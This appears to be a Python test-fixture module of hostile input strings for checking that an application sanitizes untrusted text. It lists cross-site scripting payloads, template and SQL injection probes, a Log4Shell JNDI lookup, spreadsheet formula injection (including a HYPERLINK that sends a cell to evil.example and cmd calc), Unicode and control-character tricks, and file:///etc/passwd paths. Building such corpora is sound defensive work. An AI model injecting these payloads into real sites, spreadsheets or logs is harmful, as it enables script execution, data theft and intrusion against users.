"""Texts that strangers send to do harm or that break what was not built for them. Each marks itself in what it does:
a script sets `window.ran`, an element carries `data-evil`, an address leads to evil.example."""

from __future__ import annotations

from typing import Final

_RAN: Final = "window.ran=1;alert(1)"
MARKUP: Final = (
    f"<script data-evil>{_RAN}</script>",
    f"</script><script data-evil>{_RAN}</script>",
    f'"><script data-evil>{_RAN}</script>',
    f"'><script data-evil>{_RAN}</script>",
    f"</title><script data-evil>{_RAN}</script>",
    f"</textarea><script data-evil>{_RAN}</script>",
    f"</style><script data-evil>{_RAN}</script>",
    f"--><script data-evil>{_RAN}</script>",
    f"]]><script data-evil>{_RAN}</script>",
    "<script data-evil src=https://evil.example/a.js></script>",
    f'<img data-evil src=x onerror="{_RAN}">',
    '<img data-evil src="https://evil.example/pixel.png">',
    f"<svg data-evil onload={_RAN}></svg>",
    f'<svg data-evil><animate onbegin="{_RAN}" attributeName=x dur=1s></svg>',
    f'<svg data-evil><foreignObject><iframe srcdoc="<script>{_RAN}</script>"></iframe></foreignObject></svg>',
    f"<math data-evil><mtext><table><mglyph><style><img src=x onerror={_RAN}></style></mglyph></table></mtext></math>",
    f'<iframe data-evil srcdoc="<script>parent.{_RAN}</script>"></iframe>',
    '<iframe data-evil src="https://evil.example/"></iframe>',
    '<object data-evil data="https://evil.example/a.swf"></object>',
    '<embed data-evil src="https://evil.example/a">',
    '<link data-evil rel=stylesheet href="https://evil.example/a.css">',
    '<style data-evil>@import url("https://evil.example/a.css");*{display:none}</style>',
    '<base data-evil href="https://evil.example/">',
    '<meta data-evil http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form data-evil action="https://evil.example/"><button autofocus>Take it</button></form>',
    f'<input data-evil autofocus onfocus="{_RAN}">',
    f'<details data-evil open ontoggle="{_RAN}"><summary>x</summary></details>',
    f'<body data-evil onload="{_RAN}">',
    f'<video data-evil><source onerror="{_RAN}"></video>',
    f'<a data-evil href="javascript:{_RAN}">read more</a>',
    f'<a data-evil href="java\tscript:{_RAN}">read more</a>',
    f'<marquee data-evil onstart="{_RAN}">x</marquee>',
    f'<div data-evil data-hx-get="https://evil.example/" data-hx-trigger="load" data-hx-on:load="{_RAN}">x</div>',
    f'<div data-evil hx-on::load="{_RAN}" hx-get="https://evil.example/" hx-trigger="load">x</div>',
    "<template data-evil><b>x</b></template>",
    "<!-- <b data-evil> -->",
    "<b data-evil>bold</b><i data-evil>",
    "&lt;script data-evil&gt;&#60;b data-evil&#62;",
    f'" autofocus onfocus="{_RAN}" data-evil x="',
    f"' onmouseover='{_RAN}' data-evil x='",
    "`${alert(1)}` ${7*7}",
    f"+ADw-script data-evil+AD4-{_RAN}+ADw-/script+AD4-",
    f"\u2028<script data-evil>{_RAN}</script>\u2029",
    f"＜script data-evil＞{_RAN}＜/script＞",
)
TEMPLATES: Final = (
    "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "{{ config }} {{ self.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %> *{7*7}",
    "{0.__class__} %(secret)s %s %n {count} {}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE log; --",
    '" OR 1=1 --',
    'NEAR(a b) AND "x* OR ^y: - NOT',
)
FORMULAS: Final = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
SHAPES: Final = (
    "\u202egpj.exe\u202c \u2066turned\u2069 \u200f\u061cx",
    "a\u200bb\u200dc\ufeffd\u2060e\u00adf",
    "z" + "\u0317\u0318\u0319\u0347\u0348" * 40 + "algo",
    "\x00NUL\x01\x02\x07bell\x08\x1b[31mred\x1b]0;title\x07\x1b[2J",
    "\x7f\x80\x85\x9b31m",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 200,
    "🔥" * 5000,
    "W" * 3000,
    "https://evil.example/" + "a" * 1500,
    "ﷺ" * 300 + "𒐫" * 50 + "꧅" * 50,
    "עברית עם English בתוך <b data-evil>משפט</b>",
    "مرحبا \u202e abc \u202d 123",
    "  leading and trailing\u3000 \u00a0",
    "line\nline\r\nline\u0085line\x0bline\x0cline",
    "\ufffe\uffff\ue000\U000f0000",
    "# Head\n* list\n[link](javascript:alert(1)) ![i](https://evil.example/a.png) `code` |a|b|",
    "../../../../etc/passwd ..\\..\\windows",
    "ẞİıſ K Å ﬃ ǅ",
)
LONG: Final = "Ten tekst nie ma końca <script data-evil>window.ran=1</script> " * 1600
"""About 100 kB."""
SURROGATES: Final = ('{"text": "half \\ud800 a pair"', '{"text": "\\udc00\\ud800"')
"""Halves of a pair as they may arrive in JSON: beginnings of an object."""
ADDRESSES: Final = (
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://user:password@evil.example/",
    'https://evil.example/"onmouseover="window.ran=1',
    "https://evil.example/<script>",
    "\x01javascript:window.ran=1",
)
TEXTS: Final = (*MARKUP, *TEMPLATES, *FORMULAS, *SHAPES)
"""All that go anywhere: mentions, names, notes, titles, errors."""
